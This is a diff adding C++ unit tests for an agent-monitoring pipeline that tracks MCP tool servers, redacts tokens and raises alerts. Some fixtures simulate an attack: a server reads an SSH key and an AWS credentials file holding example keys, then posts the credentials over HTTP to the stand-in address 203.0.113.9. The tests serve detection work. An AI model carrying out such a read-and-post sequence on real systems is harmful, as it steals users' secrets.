@@ -1,0 +1,415 @@
+// The pipeline on recorded input: watch decisions, enrichment, numbering,
+// loss marking, and that a trace replays to the same stream.
+#include "pipeline/pipeline.h"
+
+#include <unistd.h>
+
+#include <map>
+#include <set>
+#include <tuple>
+
+#include <gtest/gtest.h>
+
+#include "detect/rules.h"
+#include "events.h"
+#include "pipeline/trace_file.h"
+
+namespace agentwatch {
+namespace {
+
+class FakeSink : public WatchSink {
+ public:
+  bool Watch(uint32_t pid, uint32_t flags) override {
+    calls.emplace_back(pid, flags);
+    return true;
+  }
+  bool WatchExecutables(const std::vector<std::string>& paths,
+                        uint32_t) override {
+    exes = paths;
+    return true;
+  }
+  std::vector<std::string> exes;
+  std::vector<std::pair<uint32_t, uint32_t>> calls;
+};
+
+std::vector<v1::Event> Workload() {
+  std::vector<v1::Event> evs;
+  uint64_t t = 1000;
+  auto base = [&](v1::EventType type, uint32_t pid) {
+    v1::Event e;
+    e.set_type(type);
+    e.set_ktime_ns(t += 1000);
+    e.set_time_unix_ns(1700000000000000000 + t);
+    e.mutable_process()->set_pid(pid);
+    e.mutable_process()->set_tid(pid);
+    return e;
+  };
+  v1::Event init = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, 1);
+  init.mutable_exec()->set_filename("/sbin/init");
+  evs.push_back(init);
+  v1::Event shell = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, 50);
+  shell.mutable_process()->set_ppid(1);
+  shell.mutable_exec()->set_filename("/bin/bash");
+  evs.push_back(shell);
+  v1::Event fork = base(v1::EVENT_TYPE_FORK, 50);
+  fork.mutable_fork()->set_child_pid(100);
+  evs.push_back(fork);
+  v1::Event exec = base(v1::EVENT_TYPE_EXEC, 100);
+  exec.mutable_process()->set_ppid(50);
+  exec.mutable_exec()->set_filename("/usr/bin/node");
+  exec.mutable_exec()->add_argv("node");
+  exec.mutable_exec()->add_argv(
+      "/app/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
+  evs.push_back(exec);
+  v1::Event child = base(v1::EVENT_TYPE_FORK, 100);
+  child.mutable_process()->set_watched(true);
+  child.mutable_fork()->set_child_pid(101);
+  child.mutable_fork()->set_child_watched(true);
+  evs.push_back(child);
+  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 101);
+  open.mutable_process()->set_watched(true);
+  open.mutable_file()->set_path("/home/u/.ssh/id_rsa");
+  evs.push_back(open);
+  v1::Event loss = base(v1::EVENT_TYPE_LOSS, 0);
+  loss.set_lost(3);
+  evs.push_back(loss);
+  v1::Event exit = base(v1::EVENT_TYPE_EXIT, 101);
+  evs.push_back(exit);
+  return evs;
+}
+
+std::vector<std::string> RunAll(const std::vector<v1::Event>& in, WatchSink* sink) {
+  std::vector<std::string> out;
+  Pipeline p(Pipeline::Options{}, sink,
+             [&](const v1::Event& ev, const std::vector<uint32_t>&) {
+               out.push_back(ev.SerializeAsString());
+             });
+  p.SetWatchRules(BuiltinWatchRules(), {});
+  for (const auto& e : in) p.Process(e);
+  return out;
+}
+
+TEST(PipelineTest, WatchesMatchingExecAndEnriches) {
+  FakeSink sink;
+  std::vector<v1::Event> out;
+  Pipeline p(Pipeline::Options{}, &sink,
+             [&](const v1::Event& ev, const std::vector<uint32_t>&) {
+               out.push_back(ev);
+             });
+  p.SetWatchRules(BuiltinWatchRules(), {});
+  for (const auto& e : Workload()) p.Process(e);
+  ASSERT_EQ(sink.calls.size(), 1u);
+  EXPECT_EQ(sink.calls[0].first, 100u);
+  EXPECT_EQ(sink.calls[0].second, uint32_t{AW_WATCH_ON | AW_WATCH_INHERIT});
+  ASSERT_EQ(out.size(), Workload().size());
+  for (size_t i = 0; i < out.size(); ++i) EXPECT_EQ(out[i].seq(), i + 1);
+  const v1::Event& exec = out[3];
+  EXPECT_TRUE(exec.process().watched());
+  EXPECT_EQ(std::vector<uint32_t>(exec.exec().ancestry().begin(),
+                                  exec.exec().ancestry().end()),
+            (std::vector<uint32_t>{50, 1}));
+  const v1::Event& open = out[5];
+  EXPECT_EQ(open.process().exe(), "/usr/bin/node");  // inherited at fork
+  EXPECT_EQ(open.process().ppid(), 100u);
+  EXPECT_TRUE(open.process().watched());
+  EXPECT_EQ(out[6].type(), v1::EVENT_TYPE_LOSS);
+  // The watched count is refreshed once a second of kernel time.
+  v1::Event later;
+  later.set_type(v1::EVENT_TYPE_EXEC);
+  later.set_ktime_ns(out.back().ktime_ns() + 2000000000ull);
+  later.mutable_process()->set_pid(7);
+  p.Process(later);
+  EXPECT_EQ(p.watched(), 1u);  // 101 exited, 100 remains
+}
+
+TEST(PipelineTest, ExistingTreeIsWatchedWhenRulesArrive) {
+  FakeSink sink;
+  Pipeline p(Pipeline::Options{}, &sink, nullptr);
+  auto evs = Workload();
+  // Snapshots of a server and its child, then the rules.
+  v1::Event server = evs[3];
+  server.set_type(v1::EVENT_TYPE_PROCESS_SNAPSHOT);
+  v1::Event child;
+  child.set_type(v1::EVENT_TYPE_PROCESS_SNAPSHOT);
+  child.mutable_process()->set_pid(101);
+  child.mutable_process()->set_ppid(100);
+  child.mutable_exec()->set_filename("/bin/sh");
+  p.Process(evs[0]);
+  p.Process(evs[1]);
+  p.Process(child);   // child first: its parent is not known yet
+  p.Process(server);
+  p.SetWatchRules(BuiltinWatchRules(), {});
+  p.Process(evs[6]);  // any event applies pending rules
+  ASSERT_EQ(sink.calls.size(), 2u);
+  EXPECT_EQ(sink.calls[0].first, 100u);  // parent before child
+  EXPECT_EQ(sink.calls[1].first, 101u);
+}
+
+TEST(PipelineTest, PayloadChunksBecomeMcpMessages) {
+  std::vector<v1::Event> out;
+  Pipeline p(Pipeline::Options{}, nullptr,
+             [&](const v1::Event& ev, const std::vector<uint32_t>&) {
+               out.push_back(ev);
+             });
+  const std::string line =
+      R"({"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"https://x.test/?k=1","token":"abc123"}}})"
+      "\n";
+  auto chunk = [&](uint64_t off, std::string_view data) {
+    v1::Event e;
+    e.set_type(v1::EVENT_TYPE_PAYLOAD);
+    e.set_ktime_ns(1000 + off);
+    e.mutable_process()->set_pid(42);
+    e.mutable_process()->set_watched(true);
+    auto* pl = e.mutable_payload();
+    pl->set_syscall("read");
+    pl->set_fd(0);
+    pl->set_direction("in");
+    pl->set_file_type("pipe");
+    pl->set_inode(777);
+    pl->set_offset(off);
+    pl->set_syscall_length(data.size());
+    pl->set_data(std::string(data));
+    return e;
+  };
+  p.Process(chunk(0, std::string_view(line).substr(0, 50)));
+  p.Process(chunk(50, std::string_view(line).substr(50)));
+  ASSERT_EQ(out.size(), 3u);  // two payload events, then the message
+  EXPECT_EQ(out[0].type(), v1::EVENT_TYPE_PAYLOAD);
+  EXPECT_EQ(out[2].type(), v1::EVENT_TYPE_MCP_MESSAGE);
+  EXPECT_EQ(out[2].seq(), 3u);
+  const auto& m = out[2].mcp();
+  EXPECT_EQ(m.kind(), "request");
+  EXPECT_EQ(m.method(), "tools/call");
+  EXPECT_EQ(m.id(), "3");
+  EXPECT_EQ(m.transport(), "stdio");
+  EXPECT_EQ(m.direction(), "in");
+  EXPECT_EQ(m.inode(), 777u);
+  EXPECT_EQ(m.params(),
+            R"({"name":"fetch","arguments":{"url":"https://x.test/?k=1","token":"[REDACTED]"}})");
+  // The payload itself leaves the pipeline redacted too.
+  EXPECT_EQ(out[1].payload().data().find("abc123"), std::string::npos);
+  EXPECT_EQ(p.mcp_messages(), 1u);
+}
+
+// A stdio server (42) started by an agent (41): a call, the file it opens,
+// then a response larger than the capture limit. The chain update follows
+// the call, with its effect; the cut response ends the call as "lost".
+TEST(PipelineTest, CallsBecomeChainUpdatesWithTheirEffects) {
+  std::vector<v1::Event> out;
+  Pipeline p(Pipeline::Options{}, nullptr,
+             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
+  uint64_t t = 1000000;
+  auto base = [&](v1::EventType type, uint32_t pid) {
+    v1::Event e;
+    e.set_type(type);
+    e.set_ktime_ns(t += 1000);
+    e.set_time_unix_ns(1700000000000000000 + static_cast<int64_t>(t));
+    e.mutable_process()->set_pid(pid);
+    e.mutable_process()->set_tid(pid);
+    return e;
+  };
+  auto snapshot = [&](uint32_t pid, uint32_t ppid, const char* exe) {
+    v1::Event e = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, pid);
+    e.mutable_process()->set_ppid(ppid);
+    e.mutable_exec()->set_filename(exe);
+    p.Process(e);
+  };
+  std::map<int, uint64_t> offsets;
+  auto payload = [&](int fd, std::string data, uint64_t syscall_length = 0) {
+    v1::Event e = base(v1::EVENT_TYPE_PAYLOAD, 42);
+    e.mutable_process()->set_watched(true);
+    auto* pl = e.mutable_payload();
+    pl->set_syscall(fd == 0 ? "read" : "write");
+    pl->set_fd(fd);
+    pl->set_direction(fd == 0 ? "in" : "out");
+    pl->set_file_type("pipe");
+    pl->set_inode(900 + fd);
+    pl->set_offset(offsets[fd]);
+    if (syscall_length == 0) syscall_length = data.size();
+    pl->set_syscall_length(syscall_length);
+    pl->set_truncated(syscall_length > data.size());
+    offsets[fd] += syscall_length;
+    pl->set_data(std::move(data));
+    p.Process(e);
+  };
+  snapshot(1, 0, "/sbin/init");
+  snapshot(41, 1, "/usr/bin/agent");
+  snapshot(42, 41, "/usr/bin/node");
+  payload(0, R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
+  payload(1, R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
+  payload(0, R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/data/a"}}})" "\n");
+  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 42);
+  open.mutable_file()->set_path("/data/a");
+  open.mutable_file()->set_flags_text("O_RDONLY");
+  open.mutable_file()->set_result(5);
+  p.Process(open);
+  payload(1, R"({"jsonrpc":"2.0","id":1,"result":{"content":[)", 70000);  // cut
+  payload(0, R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list","arguments":{}}})" "\n");
+  payload(1, R"({"jsonrpc":"2.0","id":2,"result":{"content":[]}})" "\n");
+
+  std::vector<v1::Event> calls, updates;
+  for (const auto& e : out) {
+    if (e.type() == v1::EVENT_TYPE_MCP_CALL) calls.push_back(e);
+    if (e.type() == v1::EVENT_TYPE_CHAIN_UPDATE) {
+      updates.push_back(e);
+      EXPECT_EQ(e.seq(), calls.empty() ? 0 : calls.back().seq() + 1)
+          << "an update comes right after its call";
+    }
+  }
+  ASSERT_EQ(calls.size(), 3u);
+  EXPECT_EQ(calls[1].call().tool(), "read");
+  EXPECT_EQ(calls[1].call().status(), "lost");
+  EXPECT_EQ(calls[1].call().response_bytes(), 70000u);
+  EXPECT_EQ(calls[2].call().tool(), "list");
+  EXPECT_EQ(calls[2].call().status(), "ok") << "the message after the cut is decoded";
+  ASSERT_EQ(updates.size(), 3u);
+  const v1::ChainUpdate& u = updates[1].chain_update();
+  EXPECT_EQ(u.chain().agent_pid(), 41u);
+  EXPECT_EQ(u.entry().call().tool(), "read");
+  ASSERT_EQ(u.entry().effects_size(), 1);
+  EXPECT_EQ(u.entry().effects(0).summary(), "open /data/a O_RDONLY = 5");
+  EXPECT_EQ(updates[2].chain_update().entry().effects_size(), 0);
+  EXPECT_EQ(p.correlator().Chains(41, 0, 0).size(), 1u);
+}
+
+TEST(PipelineTest, BytesSentOutsideAreInspectedBeforeTheyAreCut) {
+  std::vector<v1::Event> out;
+  Pipeline p(Pipeline::Options{}, nullptr,
+             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
+  RuleSet rules;
+  ASSERT_EQ(LoadRules("", &rules), "");
+  ASSERT_EQ(p.SetDetectionRules(rules), "");
+  uint64_t t = 1000000;
+  auto base = [&](v1::EventType type, uint32_t pid) {
+    v1::Event e;
+    e.set_type(type);
+    e.set_ktime_ns(t += 1000);
+    e.set_time_unix_ns(1700000000000000000 + static_cast<int64_t>(t));
+    e.mutable_process()->set_pid(pid);
+    e.mutable_process()->set_tid(pid);
+    return e;
+  };
+  for (auto [pid, ppid, exe] : {std::tuple{1u, 0u, "/sbin/init"}, {41u, 1u, "/usr/bin/agent"},
+                                {42u, 41u, "/usr/bin/node"}}) {
+    v1::Event e = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, pid);
+    e.mutable_process()->set_ppid(ppid);
+    e.mutable_exec()->set_filename(exe);
+    p.Process(e);
+  }
+  std::map<int, uint64_t> offsets;
+  auto payload = [&](int fd, const char* type, std::string data) {
+    v1::Event e = base(v1::EVENT_TYPE_PAYLOAD, 42);
+    e.mutable_process()->set_watched(true);
+    auto* pl = e.mutable_payload();
+    pl->set_syscall(fd == 0 ? "read" : "write");
+    pl->set_fd(fd);
+    pl->set_direction(fd == 0 ? "in" : "out");
+    pl->set_file_type(type);
+    pl->set_inode(900 + static_cast<uint64_t>(fd));
+    pl->set_offset(offsets[fd]);
+    pl->set_syscall_length(data.size());
+    offsets[fd] += data.size();
+    pl->set_data(std::move(data));
+    p.Process(e);
+  };
+  // A stdio server (42) of agent 41 reads a credentials file for it...
+  payload(0, "pipe", R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
+  payload(1, "pipe", R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
+  payload(0, "pipe", R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/home/u/.aws/credentials"}}})" "\n");
+  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 42);
+  open.mutable_file()->set_path("/home/u/.aws/credentials");
+  open.mutable_file()->set_flags_text("O_RDONLY");
+  open.mutable_file()->set_result(5);
+  p.Process(open);
+  const std::string creds =
+      "[default]\\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\\naws_secret_access_key = "
+      "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\\nregion = eu-west-1";
+  payload(1, "pipe", R"({"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":")" + creds + R"("}]}})" "\n");
+  // ...then connects outside and posts it (fd 7, its own socket).
+  v1::Event conn = base(v1::EVENT_TYPE_NET_CONNECT, 42);
+  conn.mutable_net()->set_protocol("tcp");
+  conn.mutable_net()->set_socket_inode(907);
+  conn.mutable_net()->mutable_remote()->set_family("inet");
+  conn.mutable_net()->mutable_remote()->set_address("203.0.113.9");
+  conn.mutable_net()->mutable_remote()->set_port(80);
+  p.Process(conn);
+  payload(7, "socket",
+          "POST /c HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: 140\r\n\r\n"
+          "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
+          "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nregion = eu-west-1");
+  std::set<std::string> rules_hit;
+  const v1::PayloadInfo* sent = nullptr;
+  for (const auto& e : out) {
+    if (e.type() == v1::EVENT_TYPE_ALERT) rules_hit.insert(e.alert().rule_id());
+    if (e.type() == v1::EVENT_TYPE_PAYLOAD && e.payload().fd() == 7) sent = &e.payload();
+  }
+  ASSERT_NE(sent, nullptr);
+  EXPECT_EQ(sent->remote().address(), "203.0.113.9");
+  EXPECT_TRUE(sent->secret());
+  ASSERT_EQ(sent->flows_size(), 1);
+  EXPECT_EQ(sent->flows(0).from_tool(), "read");
+  EXPECT_EQ(sent->data().find("wJalrXUtnFEMI"), std::string::npos) << "the preview is redacted";
+  EXPECT_TRUE(rules_hit.count("secret-sent-out"));
+  EXPECT_TRUE(rules_hit.count("sensitive-data-sent-out")) << "the content is seen leaving";
+}
+
+TEST(PipelineTest, QueueOverflowIsCountedAndMarked) {
+  Pipeline::Options o;
+  o.queue_size = 4;
+  std::vector<v1::Event> out;
+  Pipeline p(o, nullptr, [&](const v1::Event& ev, const std::vector<uint32_t>&) {
+    out.push_back(ev);
+  });
+  int accepted = 0;
+  for (int i = 0; i < 10; ++i) {
+    v1::Event e;
+    e.set_type(v1::EVENT_TYPE_EXEC);
+    e.mutable_process()->set_pid(i + 1);
+    accepted += p.Push(std::move(e));
+  }
+  EXPECT_EQ(accepted, 4);
+  EXPECT_EQ(p.queue_drops(), 6u);
+  std::thread t([&] { p.Run(); });
+  while (p.processed() < 4) std::this_thread::sleep_for(std::chrono::milliseconds(1));
+  v1::Event late;
+  late.set_type(v1::EVENT_TYPE_EXEC);
+  late.mutable_process()->set_pid(99);
+  EXPECT_TRUE(p.Push(std::move(late)));
+  p.Stop();
+  t.join();
+  ASSERT_EQ(out.size(), 6u);
+  EXPECT_EQ(out[4].type(), v1::EVENT_TYPE_LOSS);
+  EXPECT_EQ(out[4].lost(), 6u);
+  EXPECT_EQ(out[5].process().pid(), 99u);
+}
+
+TEST(PipelineTest, TraceReplaysToTheSameStream) {
+  char path[] = "/tmp/aw-pipeline-XXXXXX";
+  close(mkstemp(path));
+  FakeSink sink;
+  std::vector<std::string> live;
+  {
+    TraceWriter w;
+    ASSERT_EQ(w.Open(path), "");
+    Pipeline p(Pipeline::Options{}, &sink,
+               [&](const v1::Event& ev, const std::vector<uint32_t>&) {
+                 live.push_back(ev.SerializeAsString());
+               });
+    p.SetWatchRules(BuiltinWatchRules(), {});
+    p.SetRecorder(&w);
+    for (const auto& e : Workload()) p.Process(e);
+    w.Close();
+  }
+  TraceReader r;
+  ASSERT_EQ(r.Open(path), "");
+  std::vector<v1::Event> recorded;
+  v1::Event e;
+  std::string err;
+  while (r.Next(&e, &err) == TraceReader::Result::kOk) recorded.push_back(e);
+  EXPECT_EQ(recorded.size(), Workload().size());
+  EXPECT_EQ(RunAll(recorded, nullptr), live);
+  unlink(path);
+}
+
+}  // namespace
+}  // namespace agentwatch
